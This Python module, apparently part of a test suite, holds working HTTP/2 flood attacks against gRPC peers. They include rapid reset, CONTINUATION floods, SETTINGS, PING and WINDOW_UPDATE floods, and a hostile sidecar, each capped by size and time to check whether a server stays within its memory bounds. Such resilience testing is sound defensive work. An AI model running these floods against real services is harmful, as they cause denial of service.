"""What a peer sends to flood a gRPC connection, as a client of a server and as a sidecar.

An attack sends a fixed amount, in which an unguarded program exceeds its bound, and stops early
when its connection ends."""

import collections
import contextlib
import itertools
import socket
import struct
import threading
import time

import info_pb2
from http2_frames import (
    ACK,
    ANSWER,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME,
    GOAWAY,
    HEADERS,
    HEADER_TABLE_SIZE,
    INITIAL_WINDOW_SIZE,
    LARGEST_WINDOW,
    PING,
    PREFACE,
    PRIORITY,
    REPEATED,
    RST_STREAM,
    SETTINGS,
    TRAILERS,
    WINDOW_UPDATE,
    Reader,
    connect,
    frame,
    integer,
    literal,
    message,
    request_headers,
    settings,
    text,
    window_update,
)

# Within which an attack must be over; one that succeeds may take so long.
ATTACK_SECONDS = 8
SMALL, LARGE = 3 << 20, 160 << 20  # bytes that attacks send: one frame per call, and anything else
CANCEL = struct.pack(">I", 8)
STEP = 500  # frames in one write
LONGEST = 16 << 20  # RPC_MAX_MESSAGE
ENOUGH = 160 << 20  # of messages, to exceed the bound

Attack = collections.namedtuple("Attack", "frames amount")


def numbers():
    """Stream numbers of a client, in runs."""
    for start in itertools.count(1, 2 * STEP):
        yield range(start, start + 2 * STEP, 2)


def per_call(end, *more):
    """Opens calls for ever; more are functions of the stream number that yield further frames."""

    def frames(path):
        headers = request_headers(path)
        for run in numbers():
            out = []
            for stream in run:
                out.append(frame(HEADERS, END_HEADERS | end, stream, headers))
                out += [make(stream) for make in more]
                headers = REPEATED
            yield b"".join(out)

    return frames


def in_call(*pieces, count=STEP, start=b"", data=b"", flags=END_HEADERS):
    """Opens one call, with more headers and some data, and then sends the pieces for ever."""

    def frames(path):
        yield frame(HEADERS, flags, 1, request_headers(path) + start) + data
        while True:
            yield b"".join(pieces) * count

    return frames


def repeat(*pieces):
    """Sends the pieces for ever, without a call."""
    return lambda path: itertools.repeat(b"".join(pieces) * STEP)


def reset(stream):
    return frame(RST_STREAM, 0, stream, CANCEL)


def request(stream):
    return frame(DATA, END_STREAM, stream, message(b""))


FIELD = literal(b"x" * 7, b"v" * 20, 0)
FIELDS = FIELD * 500
# As many as the server takes with a request: 8 KiB, where each counts 32 bytes more.
MOST_FIELDS = FIELD * 120
HUGE_TEXT = b"\x00" + text(b"x") + integer(1 << 30, 7)
PREFIX = struct.pack(">BI", 0, LONGEST)

# What a client may send to a server.
CLIENT_FLOODS = {
    "rapid reset": Attack(per_call(0, reset), SMALL),
    "open calls": Attack(per_call(0), SMALL),
    "calls of an unknown method": Attack(lambda _: per_call(END_STREAM)("/a/b"), SMALL),
    "answers that nobody reads": Attack(per_call(0, request), 2 * SMALL),
    "open calls with large headers": Attack(
        lambda path: (
            frame(HEADERS, END_HEADERS, stream, request_headers(path) + MOST_FIELDS)
            for stream in itertools.count(1, 2)
        ),
        LARGE,
    ),
    "CONTINUATION with fields": Attack(
        in_call(frame(CONTINUATION, 0, 1, FIELDS), count=8, flags=0), LARGE
    ),
    "CONTINUATION of one text": Attack(
        in_call(frame(CONTINUATION, 0, 1, b"a" * FRAME), count=8, start=HUGE_TEXT, flags=0), LARGE
    ),
    "empty CONTINUATION": Attack(in_call(frame(CONTINUATION, 0, 1), flags=0), LARGE),
    "SETTINGS": Attack(repeat(settings({INITIAL_WINDOW_SIZE: 65535})), LARGE),
    "SETTINGS of the table": Attack(
        repeat(settings({HEADER_TABLE_SIZE: 0}), settings({HEADER_TABLE_SIZE: 1 << 31})), LARGE
    ),
    "PING": Attack(repeat(frame(PING, 0, 0, bytes(8))), LARGE),
    "PRIORITY": Attack(repeat(frame(PRIORITY, 0, 3, b"\0\0\0\0\1")), LARGE),
    "WINDOW_UPDATE": Attack(repeat(window_update(0, 1)), LARGE),
    "RST_STREAM": Attack(in_call(reset(1)), LARGE),
    "frames of one byte": Attack(
        in_call(frame(DATA, 0, 1, b"a"), data=frame(DATA, 0, 1, PREFIX)), LARGE
    ),
    "empty frames": Attack(in_call(frame(DATA, 0, 1)), LARGE),
    "more data than the window": Attack(
        in_call(frame(DATA, 0, 1, b"a" * FRAME), count=8), 1 << 30
    ),
}


def answer(stream, flags=END_HEADERS, more=b""):
    return frame(HEADERS, flags, stream, ANSWER + more)


def in_answer(*pieces, count=STEP, start=None):
    """Starts an answer, and then sends the pieces for ever. All are functions of the stream."""

    def frames(stream):
        if start is not None:
            yield start(stream)
        while True:
            yield b"".join(piece(stream) for piece in pieces) * count

    return frames


def data(payload):
    return lambda stream: frame(DATA, 0, stream, payload)


def continuation(payload):
    return lambda stream: frame(CONTINUATION, 0, stream, payload)


def always(piece):
    return lambda stream: piece


def unfinished(stream):
    return answer(stream, 0)


# What a sidecar may answer.
SERVER_FLOODS = {
    "CONTINUATION with fields": in_answer(continuation(FIELDS), count=8, start=unfinished),
    "CONTINUATION of one text": in_answer(
        continuation(b"a" * FRAME), count=8, start=lambda stream: answer(stream, 0, HUGE_TEXT)
    ),
    "empty CONTINUATION": in_answer(continuation(b""), start=unfinished),
    "headers of other calls": in_answer(always(answer(101))),
    "SETTINGS": in_answer(always(settings({INITIAL_WINDOW_SIZE: 65535}))),
    "PING": in_answer(always(frame(PING, 0, 0, bytes(8)))),
    "WINDOW_UPDATE": in_answer(always(window_update(0, 1))),
    "RST_STREAM of other calls": in_answer(always(reset(101))),
    "GOAWAY": in_answer(
        always(frame(GOAWAY, 0, 0, struct.pack(">II", LARGEST_WINDOW, 0) + bytes(FRAME - 8))),
        count=8,
    ),
    "unknown frames": in_answer(always(frame(77, 0, 0, bytes(FRAME))), count=8),
    "frames of one byte": in_answer(
        data(b"a"), start=lambda stream: answer(stream) + frame(DATA, 0, stream, PREFIX)
    ),
    "empty frames": in_answer(data(b""), start=answer),
    "many messages": in_answer(data(message(b"")), start=answer),
    "more data than the window": in_answer(
        data(b"a" * FRAME),
        count=8,
        start=lambda stream: answer(stream) + frame(DATA, 0, stream, PREFIX),
    ),
}


def drain(connection):
    """Reads and forgets what comes, in a thread."""

    def read():
        with contextlib.suppress(OSError):
            while connection.recv(1 << 16):
                pass

    threading.Thread(target=read, daemon=True).start()


def hang_up(connection):
    """Closes a connection, also for a thread that reads from it."""
    with contextlib.suppress(OSError):
        connection.shutdown(socket.SHUT_RDWR)
    connection.close()


def send(connection, pieces, amount):
    """Sends pieces up to an amount; returns whether the peer ended the connection before."""
    end = time.monotonic() + ATTACK_SECONDS
    connection.settimeout(ATTACK_SECONDS)
    try:
        for piece in pieces:
            if amount <= 0 or time.monotonic() > end:
                return False
            connection.sendall(piece)
            amount -= len(piece)
    except TimeoutError:
        return False
    except OSError:
        return True
    return False


def flood(path, method, attack, reads):
    """Sends one of CLIENT_FLOODS; returns whether the server ended the connection."""
    connection = connect(path)
    refused = True
    with contextlib.suppress(OSError):
        connection.sendall(PREFACE + settings())
        if reads:
            drain(connection)
        refused = send(connection, attack.frames(method), attack.amount)
    hang_up(connection)
    return refused


def abandon_calls(path, method, count=300):
    """Opens that many connections, one after the other, each with nearly as many calls as it may
    open and reset, and closes them."""
    first = frame(HEADERS, END_HEADERS, 1, request_headers(method))
    opened = [frame(HEADERS, END_HEADERS, stream, REPEATED) for stream in range(3, 1900, 2)]
    resets = [reset(stream) for stream in range(3, 483, 2)]
    pairs = [pair for pairs in zip(opened, resets) for pair in pairs]
    calls = b"".join([first, *pairs, *opened[len(resets) :]])
    end = time.monotonic() + ATTACK_SECONDS
    for _ in range(count):
        connection = connect(path)
        connection.settimeout(ATTACK_SECONDS)
        with contextlib.suppress(OSError):
            connection.sendall(PREFACE + settings() + calls)
        connection.close()
        if time.monotonic() > end:
            break


def stay_open(path, method):
    """Opens as many calls as are allowed, with the largest headers and as much data as fits."""
    connection = connect(path)
    with contextlib.suppress(OSError):
        connection.sendall(PREFACE + settings())
        drain(connection)
        for stream in range(1, 1500, 2):
            headers = request_headers(method) + MOST_FIELDS
            connection.sendall(
                frame(HEADERS, END_HEADERS, stream, headers)
                + frame(DATA, 0, stream, PREFIX + bytes(FRAME - len(PREFIX)))
            )
            for _ in range(2):
                connection.sendall(frame(DATA, 0, stream, bytes(FRAME)))
    hang_up(connection)


def open_connections(path, method, count):
    """Opens that many connections, each with an open call. Yields how many there are after each,
    and closes them at the end."""
    with contextlib.ExitStack() as stack:
        for number in range(1, count + 1):
            connection = stack.enter_context(connect(path))
            with contextlib.suppress(OSError):
                opened = frame(HEADERS, END_HEADERS, 1, request_headers(method))
                connection.sendall(PREFACE + settings() + opened)
            yield number


class Uploads:
    """Calls on one connection that send messages of the largest size, all but the last byte, and
    keep to their windows."""

    MESSAGE = PREFIX + bytes(LONGEST - 1)

    def __init__(self, path, method, streams):
        self.connection = connect(path)
        self.reader = Reader(self.connection)
        self.streams = streams
        self.sent = {stream: 0 for stream in streams}
        self.windows = {0: 65535} | {stream: 65535 for stream in streams}
        self.initial = 65535
        self.connection.sendall(PREFACE + settings())
        for stream in streams:
            self.connection.sendall(frame(HEADERS, END_HEADERS, stream, request_headers(method)))

    def send(self):
        """Sends what the windows allow."""
        for stream in self.streams:
            while (
                room := min(
                    *(self.windows[0], self.windows[stream], FRAME),
                    len(self.MESSAGE) - self.sent[stream],
                )
            ) > 0:
                at = self.sent[stream]
                self.connection.sendall(frame(DATA, 0, stream, self.MESSAGE[at : at + room]))
                self.sent[stream] += room
                self.windows[0] -= room
                self.windows[stream] -= room

    def receive(self):
        """Handles one frame."""
        kind, flags, stream, payload = self.reader.frame()
        if kind == WINDOW_UPDATE:
            self.windows[stream] = self.windows.get(stream, 0) + int.from_bytes(payload, "big")
        elif kind == PING and not flags & ACK:
            self.connection.sendall(frame(PING, ACK, 0, payload))
        elif kind == SETTINGS and not flags & ACK:
            self.connection.sendall(frame(SETTINGS, ACK, 0))
            for at in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[at : at + 6])
                if name == INITIAL_WINDOW_SIZE:
                    for number in self.streams:
                        self.windows[number] += value - self.initial
                    self.initial = value

    def run(self):
        """Goes on until nothing moves, the server has enough, or an older server has taken what
        exceeds every bound."""
        self.connection.settimeout(1)  # nothing follows: what matters is the memory by then
        with contextlib.suppress(OSError, EOFError):
            while sum(self.sent.values()) < ENOUGH:
                self.send()
                self.receive()
        self.connection.close()


def upload_abreast(path, method, count=30):
    """On each of that many connections, two calls send messages as Uploads does."""

    def run():
        with contextlib.suppress(OSError):
            Uploads(path, method, (1, 3)).run()

    threads = [threading.Thread(target=run) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


class Sidecar(threading.Thread):
    """A sidecar that answers Info, and floods the connection when OnDefineDomain is called."""

    def __init__(self, path, frames):
        super().__init__(daemon=True)
        self.frames = frames
        self.refused = False
        self.listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.listener.bind(str(path))
        self.listener.listen()

    def answer_info(self, connection, stream):
        point = info_pb2.HookPoint(name="OnDefineDomain")
        info = info_pb2.InfoResult(name="x", versions=["v1alpha3"], hookPoints=[point])
        connection.sendall(
            answer(stream)
            + frame(DATA, 0, stream, message(info.SerializeToString()))
            + frame(HEADERS, END_HEADERS | END_STREAM, stream, TRAILERS)
        )

    def run(self):
        with contextlib.suppress(OSError, EOFError):
            self.serve()
        self.listener.close()

    def serve(self):
        connection, _ = self.listener.accept()
        reader = Reader(connection)
        reader.take(len(PREFACE))
        connection.sendall(settings())
        calls = 0
        while calls < 2:
            kind, flags, stream, _ = reader.frame()
            if kind == SETTINGS and not flags & ACK:
                connection.sendall(frame(SETTINGS, ACK, 0))
            elif kind == HEADERS:
                calls += 1
                if calls == 1:
                    self.answer_info(connection, stream)
        drain(connection)
        self.refused = send(connection, self.frames(stream), LARGE)
        hang_up(connection)
